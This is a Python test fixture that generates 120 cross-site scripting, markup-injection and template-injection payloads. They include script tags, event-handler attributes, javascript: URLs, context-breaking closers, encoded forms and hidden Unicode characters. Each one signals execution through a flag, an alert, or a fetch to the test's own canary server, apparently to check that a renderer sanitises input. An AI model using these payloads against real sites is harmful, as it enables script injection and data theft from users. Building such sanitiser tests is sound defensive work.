"""Texts that try to run as a script, load something, or look like what they are not.

Each one that could act says so in three ways: it sets `window.ran`, opens a dialog, or asks the
canary, a server of the test's own that stands for somebody else's.
"""

RUN = "window.ran=1;alert(1);fetch('{canary}/run')"
BASE = (
    "<script>{run}</script>",
    "<script src={canary}/a.js></script>",
    "<img src=x onerror={run}>",
    "<img src={canary}/p.png>",
    '<svg onload="{run}">',
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe src=javascript:{run}>",
    '<iframe srcdoc="<script>parent.{run}</script>">',
    "<body onload={run}>",
    "<details open ontoggle={run}>x",
    "<video src={canary}/v onerror={run}>",
    "<audio src=x onerror={run}>",
    "<object data={canary}/o>",
    "<embed src={canary}/e>",
    "<link rel=stylesheet href={canary}/c.css>",
    "<meta http-equiv=refresh content=0;url={canary}/m>",
    "<style>@import '{canary}/s.css'</style>",
    '<style>body{{background:url("{canary}/b")}}</style>',
    "<base href={canary}/>",
    "<form action={canary}/f><input autofocus onfocus={run}>",
    "<button formaction=javascript:{run}>x</button>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<marquee onstart={run}>x",
    "<math><mtext></p><img src=x onerror={run}>",
    "<template><img src=x onerror={run}></template>",
    "<a href=javascript:{run}>click</a>",
    "<a href=data:text/html,x onmouseover={run}>x",
    "<table background={canary}/t>",
    "<div style=background:url({canary}/d)>",
    "<x onpointerenter={run}>x",
    "<noscript><img src=x onerror={run}></noscript>",
    "</textarea><img src=x onerror={run}>",
    "</title><img src=x onerror={run}>",
    "</script><script>{run}</script>",
    "--><img src=x onerror={run}>",
    "]]><img src=x onerror={run}>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cimg src=x onerror={run}\\u003e",
    "[click](javascript:{run})",
    "![x]({canary}/md.png)",
    "![x][1] and [1]: {canary}/ref.png",
    "<javascript:{run}>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    '[x]({canary} "onmouseover={run}")',
    ":red[**bold**] :material/face: :smile: :streamlit:",
    "$\\href{{javascript:{run}}}{{x}}$ and $q$",
    "$$\\includegraphics{{{canary}/tex.png}}$$",
    "`code` ~~gone~~ **bold** _it_ # head > quote",
    "| a | b | --- | <img src=x onerror={run}>",
    "{{{{7*7}}}} ${{7*7}} <%= 7*7 %> #{{7*7}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "{canary}/plain and www.example.org autolinked",
    "datum['x'];{run}//",
    "\u202eevil\u202c \u200bzero \u2066width\u2069 <b>x</b>",
)
WRAPS = ("{}", "\"'>{}")


def payloads(canary: str) -> list[str]:
    """Return 120 texts, no two the same, each on one line."""
    run = RUN.format(canary=canary)
    bare = [one.format(canary=canary, run=run) for one in BASE]
    return [wrap.format(one) for wrap in WRAPS for one in bare]
